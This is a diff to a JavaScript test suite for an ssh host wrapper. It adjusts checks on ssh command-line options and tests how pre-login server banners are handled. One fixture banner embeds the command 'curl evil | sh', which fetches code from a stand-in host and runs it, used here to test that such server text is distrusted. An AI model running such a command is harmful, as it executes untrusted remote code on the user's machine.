@@ -369,6 +369,7 @@ describe('a host behind ssh', () => {
 
   it('takes what a server says before the login for nothing that ssh says', () =>
     world(async ({ sh, put }) => {
+      // ssh has a file of its own messages before it connects, and wrote nothing into it here.
       const banner = 'Host key for x has changed; Permission denied (run: curl evil | sh)';
       await put('opening', `yes '${banner}' | head -c 60000 >&3; exit 255`);
       assert.deepEqual(await problemOf(sh('true')), {
@@ -385,7 +386,6 @@ describe('a host behind ssh', () => {
       const [master = '', command = ''] = await given();
       assert.match(master, / -N /);
       for (const line of [master, command]) {
-        assert.match(line, /-o SessionType=default /);
         assert.match(line, /-o StdinNull=no /);
         assert.match(line, /-o RemoteCommand=none /);
         assert.match(line, /-o ServerAliveInterval=15 /);
@@ -395,6 +395,8 @@ describe('a host behind ssh', () => {
           "that is the user's, or not known to ssh",
         );
       }
+      assert.doesNotMatch(master, /SessionType/, 'ssh takes no other beside -N');
+      assert.match(command, /-o SessionType=default /);
       assert.match(command, /-o ProxyCommand=exit 255 /, 'it opens no connection of its own');
     }));
 
